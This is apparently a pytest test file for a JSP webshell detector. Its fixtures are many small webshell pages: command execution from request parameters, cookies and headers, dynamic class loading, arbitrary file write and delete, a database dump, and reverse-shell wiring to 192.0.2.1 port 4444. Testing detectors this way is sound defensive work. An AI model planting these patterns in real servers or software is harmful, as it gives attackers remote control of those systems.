"""JSP/Java dataflow and capability findings: minimal pages written for these tests."""

from __future__ import annotations

import base64

import pytest

from sscguard.detect.webshell.detectors import FileContext, run_detectors
from sscguard.detect.webshell.java import analyse_java
from sscguard.detect.webshell.jsp import detect_jsp
from sscguard.detect.webshell.jspsource import jsp_view
from sscguard.model import Finding, Severity

FLAG = Severity.MEDIUM


def _scan(page: str | bytes, name: str = "page.jsp") -> list[Finding]:
    data = page.encode() if isinstance(page, str) else page
    return detect_jsp(FileContext(name, data))


def _ids(findings: list[Finding], at_least: Severity = FLAG) -> set[str]:
    return {f.rule_id for f in findings if f.severity >= at_least}


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


CODE = {
    "script-engine": (
        '<%@ page import="javax.script.*" %>\n'
        "<%\n"
        'String js = request.getParameter("js");\n'
        'ScriptEngine e = new ScriptEngineManager().getEngineByName("nashorn");\n'
        "out.print(e.eval(js));\n"
        "%>\n"
    ),
    "define-class": (
        "<%!\n"
        "class L extends ClassLoader {\n"
        "  L(ClassLoader p) { super(p); }\n"
        "  Class<?> make(byte[] b) { return super.defineClass(b, 0, b.length); }\n"
        "}\n"
        "%>\n"
        "<%\n"
        'byte[] code = java.util.Base64.getDecoder().decode(request.getParameter("k"));\n'
        "new L(getClass().getClassLoader()).make(code).newInstance();\n"
        "%>\n"
    ),
    "el-script-engine": (
        '<html><body>${"".getClass().forName("javax.script.ScriptEngineManager")'
        '.newInstance().getEngineByName("js").eval(param.code)}</body></html>\n'
    ),
    "object-stream-from-request": (
        "<% new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>\n"
    ),
    "bcel-class-name": (
        "<% new com.sun.org.apache.bcel.internal.util.ClassLoader()"
        '.loadClass("$$BCEL$$" + request.getParameter("c")).newInstance(); %>\n'
    ),
    "reflection-chosen-method": (
        "<%\n"
        'String m = request.getHeader("X-M");\n'
        "Object r = Runtime.class.getMethod(m, String.class).invoke(Runtime.getRuntime(), "
        '"id");\n'
        "%>\n"
    ),
}

COMMAND = {
    "runtime-exec": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
    "process-builder": (
        "<%\n"
        'String[] argv = {"/bin/sh", "-c", request.getParameter("cmd")};\n'
        "Process p = new ProcessBuilder(argv).start();\n"
        "%>\n"
    ),
    "beans-expression": (
        "<%\n"
        'String c = request.getParameter("c");\n'
        'java.beans.Expression x = new java.beans.Expression(Runtime.getRuntime(), "exec", '
        "new Object[]{c});\n"
        "x.getValue();\n"
        "%>\n"
    ),
    "folded-reflection": (
        "<%\n"
        'String n = "ex" + "ec";\n'
        'Class<?> k = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());\n'
        "java.lang.reflect.Method m = k.getMethod(n, String.class);\n"
        'm.invoke(k.getMethod("getRuntime").invoke(null), request.getParameter("q"));\n'
        "%>\n"
    ),
    "method-parameter-and-builder": (
        "<%!\n"
        "String run(String s) throws Exception {\n"
        "  StringBuilder b = new StringBuilder();\n"
        "  b.append(s);\n"
        "  Runtime.getRuntime().exec(b.toString());\n"
        '  return "";\n'
        "}\n"
        "%>\n"
        '<% run(java.net.URLDecoder.decode(request.getQueryString(), "UTF-8")); %>\n'
    ),
    "base64-cookie": (
        "<%\n"
        "for (Cookie k : request.getCookies()) {\n"
        "  String v = new String(java.util.Base64.getDecoder().decode(k.getValue()));\n"
        "  Runtime.getRuntime().exec(v);\n"
        "}\n"
        "%>\n"
    ),
    "el-static-runtime": "<p>${Runtime.getRuntime().exec(param.c)}</p>\n",
    "el-deferred-header": (
        "<%@ page contentType=\"text/html\" %>\n#{Runtime.getRuntime().exec(header['X-Run'])}\n"
    ),
    "trailing-line-comment": (
        '<%String c=request.getParameter("c");//note%><b>x</b><%Runtime.getRuntime().exec(c);%>'
    ),
    "request-body": (
        "<%\n"
        "java.io.BufferedReader r = request.getReader();\n"
        "String line = r.readLine();\n"
        "Runtime.getRuntime().exec(line);\n"
        "%>\n"
    ),
}

JSPX = (
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">\n'
    "<jsp:scriptlet>\n"
    "String c = request.getParameter(&quot;c&quot;);\n"
    "if (c != null &amp;&amp; c.length() &gt; 0) { Runtime.getRuntime().exec(c); }\n"
    "</jsp:scriptlet>\n"
    "</jsp:root>\n"
)


@pytest.mark.parametrize("name", sorted(CODE))
def test_code_execution_paths(name: str) -> None:
    found = _scan(CODE[name])
    assert "SSC-003-404" in _ids(found), found


@pytest.mark.parametrize("name", sorted(COMMAND))
def test_command_execution_paths(name: str) -> None:
    found = _scan(COMMAND[name])
    assert "SSC-003-420" in _ids(found), found
    finding = next(f for f in found if f.rule_id == "SSC-003-420")
    assert finding.severity is Severity.CRITICAL


def test_el_request_objects_are_sources_only_inside_el() -> None:
    # the same names as Java variables are not request input: only EL's implicit objects are
    page = '<% String param = "uptime"; Runtime.getRuntime().exec(param); %>\n'
    assert "SSC-003-420" not in _ids(_scan(page))
    view, spans = jsp_view(b'<b>${param.a}</b><% String s = "${x}"; %>')
    assert view.startswith(b"   p(param.a)    ")
    assert b'"${x}"' in view  # inside a scriptlet: Java text, not EL
    assert spans == ((3, 13),)


def test_el_page_without_scriptlets_is_a_page_but_java_source_is_not() -> None:
    assert jsp_view(b"${param.c}\n")[1] == ((0, 10),)
    java = b'package a;\nclass T { String s = "${user}"; }\n'
    assert jsp_view(java) == (java, ())


def test_jsp_xml_syntax_with_entities() -> None:
    assert "SSC-003-420" in _ids(_scan(JSPX, "page.jspx"))


def test_utf16_page_is_decoded() -> None:
    page = COMMAND["runtime-exec"].encode("utf-16")
    assert "SSC-003-420" in _ids(_scan(page))
    assert "SSC-003-420" in _ids(_scan(COMMAND["runtime-exec"].encode("utf-16-le")))


def test_dataflow_evidence_has_page_line_numbers() -> None:
    page = (
        "<html>\n<body>\n"
        '<% String a = request.getParameter("a"); %>\n'  # line 3
        "<p>text</p>\n"
        "<%\n"
        "String b = a.trim();\n"  # line 6
        "Runtime.getRuntime().exec(b);\n"  # line 7
        "%>\n</body></html>\n"
    )
    finding = next(f for f in _scan(page) if f.rule_id == "SSC-003-420")
    steps = [e for e in finding.evidence if e.kind == "dataflow-step"]
    assert [e.location.line for e in steps] == [3, 3, 6, 6, 7]
    assert steps[0].excerpt.startswith("request.getParameter")
    assert steps[-1].excerpt.startswith("Runtime.getRuntime().exec")


def test_expression_tags_become_statements_at_their_lines() -> None:
    page = '<p><%= request.getParameter("q") %></p>\n<% Runtime.getRuntime().exec("id"); %>\n'
    assert _ids(_scan(page), Severity.LOW) == set()


CAPABILITIES = {
    "SSC-003-421": (
        "<%\n"
        'String p = request.getParameter("path");\n'
        'String body = request.getParameter("body");\n'
        "java.io.PrintWriter w = new java.io.PrintWriter(new java.io.File(p));\n"
        "w.println(body);\n"
        "w.close();\n"
        "%>\n"
    ),
    "SSC-003-422": (
        '<%@ page import="java.io.*" %>\n'
        "<%\n"
        'File d = new File(request.getParameter("dir"));\n'
        "for (File f : d.listFiles()) { out.println(f.getName()); }\n"
        'File target = new File(request.getParameter("dir") + "/" + request.getParameter("f"));\n'
        "if (target.isFile()) { target.delete(); }\n"
        "%>\n"
    ),
    "SSC-003-423": (
        '<%@ page import="java.sql.*" %>\n'
        "<%\n"
        'Connection c = DriverManager.getConnection(request.getParameter("url"));\n'
        "Statement st = c.createStatement();\n"
        'ResultSet rs = st.executeQuery(request.getParameter("sql"));\n'
        "%>\n"
    ),
    "SSC-003-424": (
        "<%\n"
        "ServletContext ctx = request.getServletContext();\n"
        'javax.servlet.FilterRegistration.Dynamic r = ctx.addFilter("f", new MyFilter());\n'
        "%>\n"
    ),
    "SSC-003-425": (
        "<%\n"
        'java.net.Socket s = new java.net.Socket(request.getParameter("h"), 4444);\n'
        "s.getOutputStream().write(1);\n"
        "%>\n"
    ),
}

DUMP = (
    '<%@ page import="java.sql.*,java.io.*,java.util.*" %>\n'
    "<%\n"
    'Connection c = DriverManager.getConnection("jdbc:x://db/app", "u", "p");\n'
    'ResultSet t = c.getMetaData().getTables(null, null, "%", null);\n'
    "List<String> names = new ArrayList<String>();\n"
    "while (t.next()) names.add(t.getString(3));\n"
    "for (String n : names) {\n"
    '  ResultSet r = c.createStatement().executeQuery("select * from " + n);\n'
    '  FileWriter w = new FileWriter("/tmp/" + n + ".sql");\n'
    "}\n"
    "%>\n"
)

REVERSE = (
    "<%\n"
    'java.net.Socket s = new java.net.Socket("192.0.2.1", 4444);\n'
    'Process p = Runtime.getRuntime().exec("/bin/sh");\n'
    "java.io.InputStream a = p.getInputStream(); java.io.OutputStream b = s.getOutputStream();\n"
    "java.io.InputStream c = s.getInputStream(); java.io.OutputStream d = p.getOutputStream();\n"
    "%>\n"
)


def _class_file() -> bytes:
    pool = b"\x01\x00\x11java/lang/Runtime\x01\x00\x04exec"
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + pool + bytes(range(200))


@pytest.mark.parametrize("rule_id", sorted(CAPABILITIES))
def test_capabilities(rule_id: str) -> None:
    found = _scan(CAPABILITIES[rule_id])
    assert rule_id in _ids(found), found
    finding = next(f for f in found if f.rule_id == rule_id)
    assert finding.why and finding.remediation and finding.attack
    assert any(e.location.line for e in finding.evidence)


def test_database_dump_without_request_input() -> None:
    assert "SSC-003-423" in _ids(_scan(DUMP))


def test_reverse_shell_wiring_is_high() -> None:
    found = [f for f in _scan(REVERSE) if f.rule_id == "SSC-003-425"]
    assert found and found[0].severity is Severity.HIGH


def test_embedded_class_file_base64_and_byte_array() -> None:
    blob = _b64(_class_file())
    page = f'<% String k = "{blob[:100]}" + "{blob[100:]}"; %>\n'
    found = [f for f in _scan(page) if f.rule_id == "SSC-003-426"]
    assert found and found[0].severity is Severity.HIGH
    array = ", ".join(str(b - 256 if b > 127 else b) for b in _class_file())
    page = f"<% byte[] k = new byte[]{{{array}}}; %>\n"
    assert "SSC-003-426" in _ids(_scan(page))


def test_embedded_gzip_class_file() -> None:
    import gzip

    page = f'<% String k = "{_b64(gzip.compress(_class_file()))}"; %>\n'
    assert "SSC-003-426" in _ids(_scan(page))


def test_websocket_message_reaches_socket() -> None:
    page = (
        "<%!\n"
        "public class P extends javax.websocket.Endpoint {\n"
        "  public void onMessage(java.nio.ByteBuffer m) {\n"
        '    String[] a = new String(m.array()).split(":");\n'
        "    new java.net.InetSocketAddress(a[0], Integer.parseInt(a[1]));\n"
        "  }\n"
        "}\n"
        "%>\n"
    )
    assert "SSC-003-425" in _ids(_scan(page))


BENIGN = {
    "echo-escaped": (
        '<%@ page contentType="text/html" %>\n'
        '<% String q = request.getParameter("q"); %>\n'
        "<p>You searched for <%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(q) %></p>\n"
    ),
    "constant-command": (
        '<% Process p = Runtime.getRuntime().exec("uptime"); out.print(p.waitFor()); %>\n'
    ),
    "upload-under-fixed-dir": (
        "<%\n"
        'Part part = request.getPart("file");\n'
        "String name = java.nio.file.Paths.get(part.getSubmittedFileName()).getFileName()"
        ".toString();\n"
        'part.write("/var/app/uploads/" + name);\n'
        "%>\n"
    ),
    "gallery-under-fixed-dir": (
        "<%\n"
        'java.io.File album = new java.io.File(application.getRealPath("/img"), '
        'request.getParameter("a"));\n'
        "for (java.io.File f : album.listFiles()) { out.print(f.getName()); }\n"
        "%>\n"
    ),
    "prepared-statement": (
        '<%@ page import="java.sql.*" %>\n'
        "<%\n"
        "Connection c = ds.getConnection();\n"
        'PreparedStatement ps = c.prepareStatement("select * from item where id = ?");\n'
        'ps.setString(1, request.getParameter("id"));\n'
        "ResultSet rs = ps.executeQuery();\n"
        "%>\n"
    ),
    "sql-with-request-value": (
        "<%\n"
        "Statement st = conn.createStatement();\n"
        'st.executeQuery("select name from item where id = " + request.getParameter("id"));\n'
        "%>\n"
    ),
    "socket-to-constant-host": (
        '<% java.net.Socket s = new java.net.Socket("localhost", 25); s.close(); %>\n'
    ),
    "image-base64": (
        '<img src="data:image/png;base64,<%= "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAA'
        'ADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==" %>">\n'
    ),
    "script-engine-constant": (
        "<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager()"
        '.getEngineByName("js"); out.print(e.eval("1 + 1")); %>\n'
    ),
    "el-display-only": (
        '<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>\n'
        "<p>Hello <c:out value=\"${param.name}\"/>, from ${header['Referer']}.</p>\n"
        "<p>${fn:escapeXml(param.q)} ${cookie.theme.value}</p>\n"
        "<script>const here = `${location.href}`;</script>\n"
    ),
    "object-stream-from-fixed-file": (
        '<% String id = request.getParameter("id");\n'
        "java.io.ObjectInputStream in = new java.io.ObjectInputStream(\n"
        '  new java.io.FileInputStream("/var/app/cache.ser"));\n'
        "Object o = in.readObject(); %>\n"
    ),
    "process-streams-without-socket": (
        '<% Process p = Runtime.getRuntime().exec("date"); p.getInputStream(); '
        "p.getOutputStream(); %>\n"
    ),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_pages_are_not_flagged(name: str) -> None:
    assert _ids(_scan(BENIGN[name])) == set()


def test_upload_under_fixed_dir_is_low_not_medium() -> None:
    page = (
        "<%\n"
        "java.io.InputStream in = request.getInputStream();\n"
        'String name = request.getHeader("X-Name");\n'
        'java.io.FileOutputStream o = new java.io.FileOutputStream("/srv/in/" + name);\n'
        "byte[] b = new byte[4096]; int n;\n"
        "while ((n = in.read(b)) > 0) { o.write(b, 0, n); }\n"
        "%>\n"
    )
    found = [f for f in _scan(page) if f.rule_id == "SSC-003-421"]
    assert found and found[0].severity is Severity.LOW


def test_registration_in_plain_java_is_not_reported() -> None:
    java = 'class Init { void go(ServletContext c) { c.addServlet("s", new S()); } }\n'
    assert _scan(java, "Init.jsp") == [] or _ids(_scan(java, "Init.jsp")) == set()


def test_java_source_files_are_left_to_other_checks() -> None:
    assert run_detectors("Tool.java", COMMAND["runtime-exec"].encode(), ()) == []


def test_non_jsp_extension_with_jsp_markup_is_analysed() -> None:
    page = '<%@ page import="java.io.*" %>\n' + COMMAND["runtime-exec"]
    assert "SSC-003-420" in _ids(_scan(page, "shell.txt"))
    assert _scan(page, "page.asp") == []


def test_dual_use_tool_is_capped_at_low() -> None:
    header = "<%-- FileMan 2.1, Copyright (c) Example Ltd, licensed under the MIT licence --%>\n"
    login = '<% if (session.getAttribute("login") == null) { return; } %>\n'
    page = header + login + CAPABILITIES["SSC-003-422"] + ("<!-- padding -->\n" * 2600)
    found = [f for f in _scan(page) if f.rule_id == "SSC-003-422"]
    assert found and found[0].severity is Severity.LOW


def test_analysis_result_explains_head_taint() -> None:
    res = analyse_java(CAPABILITIES["SSC-003-421"].encode())
    assert res.writes and res.writes[0].control == "dir"
    assert res.writes[0].target.line == 4
